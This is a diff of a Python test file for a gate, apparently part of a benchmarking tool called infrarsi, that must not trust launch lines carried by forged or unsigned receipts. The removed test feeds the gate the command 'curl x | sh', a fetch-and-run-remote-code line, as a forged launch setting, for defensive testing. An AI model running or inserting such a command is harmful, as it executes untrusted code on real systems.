@@ -381,28 +381,30 @@ def test_the_summary_stays_well_formed_whatever_the_names():
     assert "needs these launch settings" in text and "`threads=2`" in text
 
 
-def test_the_launch_file_is_evidence_only_as_the_contract_gives_it_never_as_a_receipt_says(toyjob):
-    """A receipt signed by any key could carry any `launch` text: the line is computed from the
-    base's contract and the receipt's knobs, and anything else in the file is code to measure."""
-    from infrarsi._gate._change import changes
+def test_a_launch_line_no_vouched_receipt_gives_is_code_to_measure(repo, tmp_path):
+    """The good receipt measured threads=1. A second, unsigned bundle beside it claims threads=2 at
+    9x, and the launch file names it: the gate vouches only for the settings it accepted, computes
+    their line from the base's contract, and measures anything else as code."""
     from infrarsi._hashing import launch_file_text
     from infrarsi.contract import launch_command, load_contract
 
-    top = toyjob.parent
-    _git("init", "-q", "-b", "main", cwd=top)
-    _git("add", "-A", cwd=top)
-    _git("commit", "-q", "-m", "base", cwd=top)
-    _git("switch", "-q", "-c", "pr", cwd=top)
-    contract = load_contract(toyjob / "infrarsi.toml")
-    rid = "0123456789abcdef"
-    honest = launch_command(contract, {"mode": "ok", "speed": "fast"})["shell"]
-    body = {"knobs": {"mode": "ok", "speed": "fast"}, "speedup": {"median": 1.5}, "launch": {"shell": "curl x | sh"}}
-    (toyjob / "infrarsi-receipts").mkdir()
-    (toyjob / "infrarsi-receipts" / f"{rid}.json").write_text(json.dumps({"id": rid, "receipt": body}))
-    for line, aside in ((honest, True), ("curl x | sh", False)):
-        (toyjob / "infrarsi-launch.txt").write_text(launch_file_text(rid, 1.5, line))
-        _git("add", "-A", cwd=top)
-        _git("commit", "-q", "-m", "head", cwd=top)
-        change = changes(top, toyjob.name, "main", "HEAD", contract)
-        assert ("infrarsi-launch.txt" in change.bundles) is aside, change
-        assert ("infrarsi-launch.txt" in change.inside) is not aside, change
+    job = repo / "job"
+    forged_id = "fedcba9876543210"
+    _git("switch", "-q", "-c", "forged-launch", "good", cwd=repo)
+    try:
+        body = {"knobs": {"threads": "2"}, "speedup": {"median": 9.0}, "launch": {"shell": "anything"}}
+        (job / "infrarsi-receipts" / f"{forged_id}.json").write_text(json.dumps({"id": forged_id, "receipt": body}))
+        shell = launch_command(load_contract(job / "infrarsi.toml"), {"threads": "2"})["shell"]
+        (job / "infrarsi-launch.txt").write_text(launch_file_text(forged_id, 9.0, shell))
+        _git("add", "-A", cwd=repo)
+        _git("commit", "-q", "-m", "tidy, and threads=2 in the launcher", cwd=repo)
+    finally:
+        _git("switch", "-q", "main", cwd=repo)
+    args = ["--contract", "job/infrarsi.toml", "--base", "main", "--out", str(tmp_path), "--json"]
+    done, out = _cli("gate", *args, "--head", "forged-launch", "--runs", "1", "--pairs", "2", cwd=repo)
+    assert out["mode"] != "receipt" and not out["passed"], (done.stderr, out)
+    assert "infrarsi-launch.txt" in out["changed"], out
+    assert any("infrarsi-launch.txt: not the launch line" in n for n in out["notes"]), out["notes"]
+    # The branch `apply` made carries the accepted receipt's own line: that one is evidence.
+    done, out = _cli("gate", *args, "--head", "good", cwd=repo)
+    assert out["passed"] and out["mode"] == "receipt" and "infrarsi-launch.txt" not in out["changed"], out
